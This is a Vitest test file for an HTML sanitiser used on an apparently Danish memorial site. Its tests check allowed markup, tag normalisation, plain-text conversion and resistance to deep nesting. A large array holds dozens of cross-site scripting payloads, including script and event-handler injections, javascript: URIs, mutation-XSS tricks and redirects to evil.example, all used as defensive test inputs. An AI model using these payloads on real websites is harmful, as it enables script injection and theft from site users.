import { describe, expect, test } from 'vitest'
import { richTextToPlain, sanitiseRichText } from './sanitise-rich-text'

const REL = 'rel="noopener nofollow ugc"'

describe('what a family may write stays as it is', () => {
  test.each([
    '<p>Hun elskede <strong>havet</strong>, <em>vinden</em> og <u>fuglene</u>.</p>',
    '<h2>Barndom</h2><h3>På Ærø</h3><p>Linje<br />ny linje</p><hr /><blockquote><p>Ord</p></blockquote>',
    '<ul><li>Åse</li><li><p>Bo</p></li></ul><ol><li><s>en</s></li></ol>',
    `<p><a href="https://example.dk/?a=1&amp;b=2" ${REL}>avisen</a> <a href="mailto:bo@example.dk" ${REL}>Bo</a></p>`,
    '<p>3 &lt; 5 &amp; 5 &gt; 3 – “citat” 🕯️</p>',
  ])('%s', (html) => {
    expect(sanitiseRichText(html)).toBe(html)
  })

  test.each([
    ['<b>fed</b> <i>kursiv</i> <del>slettet</del>', '<strong>fed</strong> <em>kursiv</em> <s>slettet</s>'],
    ['<h1>Liv</h1><h5>Lille</h5>', '<h2>Liv</h2><h3>Lille</h3>'],
    ['<div style="color:red"><span class="x">Ord</span></div>', 'Ord'],
    ['<p class="a" id="b" onclick="c()" style="d">Ord</p>', '<p>Ord</p>'],
    [
      '<a href="https://example.dk" target="_blank" rel="opener" onclick="x()">x</a>',
      `<a href="https://example.dk" ${REL}>x</a>`,
    ],
    ['<p>ikke lukket', '<p>ikke lukket</p>'],
    ['', ''],
  ])('%s is made %s', (html, expected) => {
    expect(sanitiseRichText(html)).toBe(expected)
  })
})

const injections = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script >alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<p/onclick=alert(1)>x</p>',
  '<p onmouseover\n=\nalert(1)>x</p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/profile">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="">x</a>',
  '<a href="https://x" onclick="alert(1)">x</a>',
  '<a href="https://x&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href=\'https://x" onmouseover="alert(1)\'>x</a>',
  '<a name="body" id="cookie">x</a>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><body onload=alert(1)>',
  '</p><script>alert(1)</script><p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p\u0000onclick=alert(1)>x</p>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<li value="1" onclick="x">x</li>',
]

const SAFE_MARKUP =
  /<(?:\/?(?:p|h2|h3|strong|em|u|s|blockquote|ul|ol|li)|br \/|hr \/|\/a|a href="(?:https?:\/\/|mailto:)[^"<>]*" rel="noopener nofollow ugc")>/g

describe('an injection comes out as harmless markup or plain words, and stays so', () => {
  test.each(injections)('%j', (html) => {
    for (const wrapped of [html, `<p>${html}</p>`, `<ul><li>${html}`]) {
      const clean = sanitiseRichText(wrapped)
      expect(clean.replace(SAFE_MARKUP, '')).not.toMatch(/[<>]/)
      expect(sanitiseRichText(clean)).toBe(clean)
    }
  })

  test('also when it comes in thousands of layers', () => {
    const deep = sanitiseRichText(`${'<blockquote>'.repeat(5_000)}<script>alert(1)</script>bund`)
    expect(deep.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(20)
    expect(deep).not.toContain('alert')
  })

  test('and a very long text takes no long time', () => {
    const started = performance.now()
    sanitiseRichText('<p>Hun elskede havet. <a href="https://x.dk">x</a></p>'.repeat(5_000))
    sanitiseRichText('<'.repeat(50_000))
    richTextToPlain('<ul><li>'.repeat(5_000))
    expect(performance.now() - started).toBeLessThan(3_000)
  })
})

describe('the plain words of a rich text', () => {
  test.each([
    [
      '<h2>Barndom</h2><p>Født på Ærø &amp; glad.<br />Altid.</p><p>Så voksen.</p>',
      'Barndom\n\nFødt på Ærø & glad.\nAltid.\n\nSå voksen.',
    ],
    ['<p>Børn:</p><ul><li>Åse</li><li><p>Bo</p></li></ul><p>Slut</p>', 'Børn:\n\n- Åse\n- Bo\n\nSlut'],
    ['<p>3 &lt; 5 &amp;lt; <a href="https://x.dk">link</a></p>', '3 < 5 &lt; link'],
    ['<p>to\n   linjer</p>', 'to linjer'],
    ['<script>alert(1)</script>', ''],
    ['', ''],
  ])('%j is %j', (html, plain) => {
    expect(richTextToPlain(html)).toBe(plain)
  })
})
